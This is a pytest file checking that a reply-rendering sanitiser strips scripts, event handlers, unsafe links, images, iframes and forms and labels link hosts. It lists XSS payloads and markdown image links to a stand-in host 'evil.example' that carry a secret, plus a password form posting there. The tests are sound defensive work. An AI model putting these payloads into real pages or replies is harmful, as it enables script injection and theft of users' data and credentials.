"""Whatever a reply quotes, the page shows words and honest links, and loads nothing."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from connectors.web.render import MAX_CHARS, safe_html

PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](https://evil.example/?d=secret)",
    "![x][p]\n\n[p]: https://evil.example/p.png",
    '<a href="https://evil.example" onclick="x()">x</a>',
    '[x](https://evil.example "onmouseover=alert(1)")',
    "<iframe src=//evil.example></iframe>",
    "`<script>`\n\n```html\n<script>alert(1)</script>\n```",
    "<style>*{display:none}</style>",
    "<form action=//evil.example><input name=password></form>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    '<span class="host">(bank.example)</span>',
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_of_it_runs_or_loads(payload: str) -> None:
    html = safe_html(payload)
    assert not re.search(r"<(script|img|svg|iframe|style|form|input|link|meta|object|embed|video|audio)\b", html)
    assert not re.search(r"<[^>]+\son\w+\s*=", html)
    assert not re.search(r'(href|src)="(?!https?://|mailto:)', html)


@given(st.text())
def test_any_text_gives_html_without_dangerous_tags(text: str) -> None:
    assert not re.search(r"<(script|img|svg|iframe|style|form)\b", safe_html(text))


def test_a_link_shows_where_it_leads() -> None:
    html = safe_html("[your bank](https://evil.example/login)")
    assert '<span class="host">(evil.example)</span>' in html
    assert 'rel="noopener noreferrer nofollow"' in html
    assert '<span class="host">(evil.example)</span>' in safe_html("[https://bank.example](https://evil.example/login)")
    assert 'class="host"' not in safe_html("<https://acme.example/page>")


def test_a_picture_becomes_its_words_and_its_host() -> None:
    assert safe_html("![a chart](https://evil.example/x.png)") == '<p>a chart <span class="host">(evil.example)</span></p>\n'


def test_the_markdown_that_articles_use_is_shown() -> None:
    html = safe_html("# Carry over\n\n- **5 days**\n- until *March*\n\n| a | b |\n|---|---|\n| 1 | 2 |")
    for tag in ("<h1>", "<li>", "<strong>", "<em>", "<table>", "<td>"):
        assert tag in html


def test_over_long_text_is_cut_visibly() -> None:
    html = safe_html("x" * (MAX_CHARS + 10))
    assert html.endswith("…</p>\n")
    assert html.count("x") == MAX_CHARS


@pytest.mark.parametrize("text", ["[" * 20_000, ">" * 5_000 + "x", "*_" * 10_000, "\\" * 20_000, "- " * 5_000])
def test_hostile_nesting_is_shown_not_raised(text: str) -> None:
    assert isinstance(safe_html(text), str)
